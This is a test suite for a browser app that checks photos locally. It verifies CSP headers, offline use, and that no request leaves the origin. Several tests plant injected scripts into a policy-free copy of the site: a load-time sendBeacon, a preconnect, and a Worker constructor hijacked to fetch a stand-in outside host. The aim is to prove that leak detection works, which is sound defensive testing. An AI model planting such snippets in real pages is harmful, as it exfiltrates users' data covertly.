// Nothing leaves the device: the browser is watched from inside and from outside, and the watch itself is tested.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { PATIENCE, SITE, check, hostsReachedDuring, jpeg, launch, open, stranger, withoutPolicy } from "./support.mjs";

const limit = { timeout: 3 * PATIENCE };
let browser;
let picture;
let other;

before(async () => {
  browser = await launch();
  picture = await jpeg(browser, 400, 304);
  other = await stranger();
});

after(async () => {
  await browser?.close();
  other?.close();
});

test("the served page carries its policy and its headers", async () => {
  for (const path of ["/", "/page.js", "/engine_bg.wasm", "/models/manifest.json", "/nothing-here"]) {
    const { headers } = await fetch(SITE + path);
    const policy = headers.get("content-security-policy");
    const directives = new Map(policy.split(";").map((directive) => directive.trim().split(/ (.*)/)));
    assert.equal(directives.get("default-src"), "'none'");
    assert.equal(directives.get("connect-src"), "'self'");
    assert.equal(directives.get("script-src"), "'self' 'wasm-unsafe-eval'");
    assert.equal(directives.get("frame-ancestors"), "'none'");
    assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|\*|https?:/);
    assert.equal(headers.get("x-content-type-options"), "nosniff");
    assert.equal(headers.get("referrer-policy"), "no-referrer");
    assert.equal(headers.get("cross-origin-opener-policy"), "same-origin");
  }
  assert.equal((await fetch(`${SITE}/engine_bg.wasm`)).headers.get("content-type"), "application/wasm");
  assert.match(await (await fetch(SITE)).text(), /<meta http-equiv="Content-Security-Policy"[^>]*connect-src 'self'/);
});

test("no request leaves the origin while a picture is checked", limit, async () => {
  const requests = [];
  const hosts = await hostsReachedDuring(async (context) => {
    context.on("request", (request) => requests.push(request.url()));
    const { page, problems } = await open(context);
    await check(page, "photo.jpg", picture);
    assert.deepEqual(problems, []);
  });
  assert.ok(requests.length > 3);
  const own = (url) => ["blob:", "data:", SITE].some((start) => url.startsWith(start));
  assert.deepEqual(requests.filter((url) => !own(url)), []);
  assert.deepEqual([...hosts], [new URL(SITE).host], "what the net log saw");
});

test("it works offline once it has worked", limit, async () => {
  const context = await browser.newContext();
  const { page, problems } = await open(context);
  await check(page, "first.jpg", picture);
  await context.setOffline(true);
  await check(page, "second.jpg", picture);
  assert.deepEqual(problems, []);
  await context.close();
});

test("the policy refuses page and worker every other server", limit, async () => {
  const before = other.seen.connections;
  const context = await browser.newContext();
  const { page } = await open(context);
  await check(page, "photo.jpg", picture);
  const abroad = `${other.origin}/secret`;
  const attempt = (url) => fetch(url).then(() => "reached", (error) => error.name);
  assert.equal(await page.evaluate(attempt, abroad), "TypeError");
  const workers = page.workers();
  assert.ok(workers.length > 0, "the engine's worker is still there");
  for (const worker of workers) assert.equal(await worker.evaluate(attempt, abroad), "TypeError");
  const violated = await page.evaluate(
    (url) =>
      new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
        navigator.sendBeacon(url, "secret");
      }),
    abroad,
  );
  assert.equal(violated, "connect-src");
  // A round trip to the site itself: whatever the browser was still to send would be sent by now.
  await page.evaluate(() => fetch("style.css").then((answer) => answer.text()));
  await context.close();
  assert.equal(other.seen.connections, before);
});

for (const [what, plant] of [
  ["a beacon", (url) => ({ script: `addEventListener("load", () => navigator.sendBeacon("${url}/beacon", "x"))` })],
  ["a preconnect", (url) => ({ head: `<link rel="preconnect" href="${url}">` })],
  [
    "a worker's fetch",
    (url) => ({
      script: `const Native = Worker;
        Worker = function (address, options) {
          const spy = new Blob(["fetch('${url}/worker').catch(() => {}); import(" + JSON.stringify(address) + ")"], { type: "text/javascript" });
          return new Native(URL.createObjectURL(spy), options);
        };`,
    }),
  ],
]) {
  test(`the watch notices ${what} where there is no policy`, limit, async () => {
    const before = other.seen.connections;
    const site = await withoutPolicy(plant(other.origin));
    try {
      const hosts = await hostsReachedDuring(async (context) => {
        const { page } = await open(context, site.origin);
        await check(page, "photo.jpg", picture);
      });
      assert.ok(hosts.has(new URL(other.origin).host), `the net log saw ${[...hosts]}`);
      assert.ok(other.seen.connections > before, "the socket heard it");
    } finally {
      site.close();
    }
  });
}
